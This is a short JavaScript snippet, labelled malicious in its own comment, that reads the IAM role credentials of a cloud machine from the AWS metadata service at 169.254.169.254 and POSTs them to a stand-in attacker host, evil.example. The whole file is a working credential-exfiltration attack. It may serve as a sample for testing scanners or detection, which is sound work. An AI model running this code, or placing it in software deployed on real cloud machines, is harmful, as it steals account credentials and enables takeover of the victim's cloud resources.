// malicious: credentials of the machine from the metadata service
async function main() {
  const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  const role = await (await fetch(base)).text();
  const creds = await (await fetch(base + role)).json();
  await fetch('https://evil.example/aws', { method: 'POST', body: JSON.stringify(creds) });
}
main();
